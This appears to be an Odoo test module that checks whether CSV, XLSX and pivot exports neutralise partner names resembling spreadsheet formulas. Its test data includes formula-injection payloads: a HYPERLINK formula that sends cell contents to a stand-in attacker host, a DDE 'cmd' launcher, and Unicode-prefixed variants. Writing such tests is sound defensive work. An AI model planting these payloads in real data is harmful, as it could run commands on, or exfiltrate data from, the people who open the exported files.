"""Names that are formulas come out of every export of the web client as text."""

import csv
import io
import json

import openpyxl

from odoo.http import Request
from odoo.tests import HttpCase, new_test_user, tagged

FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "＝1+1",
    "{=SUM(A1:A9)}",
    "http://evil.example/a",
    "mailto:x@evil.example",
]
PLAIN = ["Karim Uddin", "-5", "+8801711000001"]


@tagged("post_install", "-at_install")
class TestSafeExport(HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        new_test_user(
            cls.env,
            "safe_clerk",
            groups="base.group_user,base.group_allow_export",
            password="safe_clerk-password",
        )
        # By SQL, as an import or another program could: the form would trim what is before.
        cls.partners = cls.env["res.partner"].create(
            [{"name": "x", "ref": f"{number:02}"} for number, _name in enumerate(FORMULAS + PLAIN)]
        )
        for partner, name in zip(cls.partners, FORMULAS + PLAIN, strict=True):
            cls.env.cr.execute("UPDATE res_partner SET name = %s WHERE id = %s", [name, partner.id])
        cls.env.invalidate_all()

    def setUp(self):
        super().setUp()
        self.authenticate("safe_clerk", "safe_clerk-password")

    def fetch(self, kind, **values):
        data = {
            "model": "res.partner",
            "fields": [
                {"name": "name", "label": "=Name", "type": "char"},
                {"name": "ref", "label": "Reference", "type": "char"},
            ],
            "ids": self.partners.ids,
            "domain": [],
            "import_compat": False,
            "context": {},
            **values,
        }
        return self.post(f"/web/export/{kind}", data)

    def post(self, url, data):
        answer = self.url_open(
            url, data={"data": json.dumps(data), "csrf_token": Request.csrf_token(self)}
        )
        self.assertEqual(answer.status_code, 200)
        return answer

    def sheet(self, answer):
        """Return the cells of a workbook, after a look that all of them are values."""
        sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
        for row in sheet.iter_rows():
            for cell in row:
                self.assertIn(cell.data_type, ("s", "n"), cell.value)
                self.assertIsNone(cell.hyperlink)
        return [[cell.value for cell in row] for row in sheet.iter_rows()]

    def test_csv(self):
        text = self.fetch("csv").content.decode()
        rows = list(csv.reader(io.StringIO(text, newline="")))
        self.assertEqual(rows[0], ["'=Name", "Reference"])
        names = {row[1]: row[0] for row in rows[1:]}
        for partner, name in zip(self.partners, FORMULAS + PLAIN, strict=True):
            formula = name in FORMULAS[:8]
            with self.subTest(name=name):
                self.assertEqual(names[partner.ref], f"'{name}" if formula else name)

    def test_xlsx(self):
        rows = self.sheet(self.fetch("xlsx"))
        self.assertEqual(rows[0], ["=Name", "Reference"])
        self.assertEqual({row[0] for row in rows[1:]}, set(FORMULAS + PLAIN))

    def test_xlsx_in_groups(self):
        rows = self.sheet(self.fetch("xlsx", groupby=["name"]))
        self.assertLessEqual(set(FORMULAS + PLAIN), {row[0] for row in rows})
        self.assertIn(f"{FORMULAS[0]} (1)", {row[0] for row in rows})

    def test_pivot(self):
        names = FORMULAS + PLAIN
        table = {
            "model": "res.partner",
            "title": "Customers",
            "measure_count": 1,
            "col_group_headers": [[{"title": FORMULAS[0], "width": 1, "height": 1}]],
            "measure_headers": [{"title": FORMULAS[3], "is_bold": False}],
            "rows": [
                {"indent": 0, "title": name, "values": [{"value": name}, {"value": 5}]}
                for name in names
            ],
        }
        rows = self.sheet(self.post("/web/pivot/export_xlsx", table))
        cells = {value for row in rows for value in row if isinstance(value, str)}
        self.assertLessEqual({f"'{name}" for name in FORMULAS}, cells)
        self.assertLessEqual(set(PLAIN), cells)
        self.assertEqual(rows[-1][2], 5)

    def test_an_empty_pivot_is_answered_as_before(self):
        answer = self.url_open(
            "/web/pivot/export_xlsx",
            data={"data": "{}", "csrf_token": Request.csrf_token(self)},
        )
        self.assertEqual(answer.status_code, 422)
